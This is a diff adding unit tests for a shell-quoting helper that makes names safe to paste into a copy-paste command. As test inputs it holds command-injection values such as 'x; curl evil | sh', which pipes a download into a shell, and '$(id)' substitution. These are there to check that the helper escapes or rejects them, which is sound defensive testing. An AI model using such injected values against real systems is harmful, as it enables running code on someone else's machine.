@@ -7,6 +7,7 @@ import { languageNamed, languageOf } from "../../../web/parts/highlight/language
 import { joinPath, linkTarget } from "../../../web/parts/markdown/link-target.ts";
 import { readMarkdown } from "../../../web/parts/markdown/read-markdown.ts";
 import { type MarkdownNode, TAGS } from "../../../web/parts/markdown/tree.ts";
+import { shellWord } from "../../../web/views/skill/shell-word.ts";
 
 const FILES = new Set(["scripts/run.sh", "guide.md"]);
 const resolve = (path: string) => (FILES.has(path) ? `/there/${path}` : undefined);
@@ -204,5 +205,15 @@ describe("colours", () => {
     expect(languageOf("run", "#!/bin/bash")).toBe("bash");
     expect(languageOf("LICENSE", "MIT")).toBeUndefined();
     expect(languageNamed("constructor")).toBeUndefined();
+  });
+});
+
+describe("a name in a command to copy", () => {
+  test("is one word of the shell, or there is no command", () => {
+    expect(shellWord("pdf-forms")).toBe("pdf-forms");
+    expect(shellWord("x; curl evil | sh")).toBe("'x; curl evil | sh'");
+    expect(shellWord("it's $(id)")).toBe("'it'\\''s $(id)'");
+    for (const name of ["-rf", "", "a\nb", "a\u202eb", "a\0"])
+      expect(shellWord(name)).toBeUndefined();
   });
 });
